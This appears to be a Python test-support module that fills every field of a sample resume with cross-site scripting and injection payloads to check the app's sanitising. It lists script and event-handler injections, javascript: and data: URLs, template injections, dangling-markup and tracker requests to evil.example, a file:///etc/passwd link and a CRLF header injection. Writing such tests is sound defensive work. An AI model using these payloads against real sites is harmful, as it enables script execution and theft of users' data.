"""Markup that tries to get out of its place, and a resume that holds it in every field."""

import itertools
import json
import pathlib
import re

from support import CONFORMANCE

# What a browser would do if one of these got out: name the root element.
_CALL = "document.documentElement.id='pwned'"
_MARKS = ("\u0301", "\ufe0f", "\u200d", "\u200c", "\u20e3", "\U000e0067", "\U0001f3fb", "\u093f")

OWN = [
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg/onload={_CALL}>",
    # A quote with a mark after it is one grapheme, and still a quote.
    *(f'"{mark} onmouseover={_CALL} autofocus onfocus={_CALL} x="{mark}' for mark in _MARKS),
    *(f"'{mark} onerror={_CALL} x='{mark}" for mark in _MARKS),
    *(f"<{mark}img src=x onerror={_CALL}>{mark}" for mark in _MARKS),
    *(f"{mark}<b>bold</b>&{mark}amp;" for mark in _MARKS),
    f"</title><svg onload={_CALL}>", f"</style><img src=x onerror={_CALL}>", f"</textarea><svg onload={_CALL}>",
    f"--><img src=x onerror={_CALL}>", f"--!><svg onload={_CALL}>", f"]]><svg onload={_CALL}>",
    f"` onload={_CALL} x=`", f"a=b onload={_CALL}", f"\" style=\"background:url(//evil.example)\" onclick=\"{_CALL}",
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f"\x01javascript:{_CALL}", f"java\tscript:{_CALL}",
    f"javascript&colon;{_CALL}", f"&#x6A;avascript:{_CALL}", "data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:x", "file:///etc/passwd", "blob:x", "filesystem:x",
    "ms-msdt:x", "search-ms:x", "intent:x", "itms-services:x", "smb://evil.example", "view-source:x",
    "feed:javascript:x", "//evil.example/x", "\\\\evil.example", "https:evil.example", "https://user:pw@good@evil.example",
    "mailto:a@b.example?bcc=c@d.example&body=x", "tel:+1;phone-context=x",
    f"[x](<javascript:{_CALL}>)", f"[x]: javascript:{_CALL}", f"<javascript:{_CALL}>", f"![x](javascript:{_CALL})",
    "![x](http://tracker.example/p.gif)", "![x](data:image/png;base64,AAAA)", "<!DOCTYPE x>", "<?php x ?>",
    "<![CDATA[x]]>", "<!-- a comment -->", f"```\"><img src=x onerror={_CALL}>",
    "{{{firstName}}}", "{{=<% %>=}}", "{{>page}}", "{{#lambda}}x{{/lambda}}", "+ADw-script+AD4-", "\x1b(J\\",
    "<base href=//evil.example>", "<a id=body name=forms>x</a>", "<img src='//evil.example/?",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "\u202egnp.exe", "\u2066open", "x\r\nSet-Cookie: a=b",
]


def others():
    """The payloads that others collected, one text each."""
    if not CONFORMANCE:
        return []
    folder = pathlib.Path(CONFORMANCE) / "xss"
    found = []
    for path in sorted(folder.glob("*.txt")):
        if "LICENSE" not in path.name:
            found += path.read_text(encoding="utf-8", errors="replace").splitlines()
    # JSON, with comments at the ends of lines.
    text = re.sub(r"/\* .* \*/\s*$", "", (folder / "loofah.dat").read_text(), flags=re.MULTILINE)
    found += [case["input"] for case in json.loads(text)]
    return [payload for payload in found if payload.strip()]


PLAIN, MARKDOWN, LINK = object(), object(), object()


def _entry(plain="", markdown="", link="", **fixed):
    entry = dict(fixed)
    for kind, names in ((PLAIN, plain), (MARKDOWN, markdown), (LINK, link)):
        entry.update({name: kind for name in names.split()})
    return entry


RESUME = {
    **_entry("firstName lastName jobTitle address province country", "summary", "linkedIn website portfolio github"),
    **_entry(link="email phone"),
    "experiences": [_entry(
        "jobTitle company location", "description", "url", startDate="2020-01-01", endDate="2021-02-01",
        responsibilities=[MARKDOWN], achievements=[MARKDOWN])],
    "education": [_entry("school degree field grade location", "description", "url", courses=[PLAIN])],
    "projects": [_entry("name organisation role location", "description", "url", keywords=[PLAIN])],
    "skills": [_entry("name category", keywords=[PLAIN])],
    "languages": [_entry("name")],
    "certificates": [_entry("name issuer credentialId", "description", "verificationUrl")],
    "awards": [_entry("name organisation", "description")],
    "publications": [_entry("name publisher authors", "description", "url")],
    "interests": [_entry("name", "description", keywords=[PLAIN])],
    "profiles": [_entry("network username", "", "url")],
    "references": [_entry("name jobTitle company", "description", "email phone")],
    "customSections": [{"id": "c", "title": PLAIN, "items": [
        _entry("title organization location", "description", "url", startDate="2020-01")]}],
}
BENIGN = {PLAIN: "Benign text", MARKDOWN: "Benign text", LINK: ""}


def filled(kind, texts, node=RESUME):
    """The resume with each field of one kind set to the next of the texts, the others to benign ones."""
    if isinstance(node, dict):
        return {key: filled(kind, texts, value) for key, value in node.items()}
    if isinstance(node, list):
        return [filled(kind, texts, value) for value in node]
    if node is kind:
        return next(texts)
    return BENIGN.get(node, node) if type(node) is object else node


def count(kind, node=RESUME):
    """How many fields of a kind the resume has."""
    if isinstance(node, dict):
        return sum(count(kind, value) for value in node.values())
    if isinstance(node, list):
        return sum(count(kind, value) for value in node)
    return 1 if node is kind else 0


def resumes(kind, payloads, rounds):
    """Resumes that hold all payloads; each round moves every payload on to another field."""
    width = count(kind)
    for turn in range(rounds):
        moved = payloads[turn:] + payloads[:turn]
        for start in range(0, len(moved), width):
            lot = moved[start:start + width]
            yield lot, filled(kind, itertools.chain(lot, itertools.repeat("Benign text")))
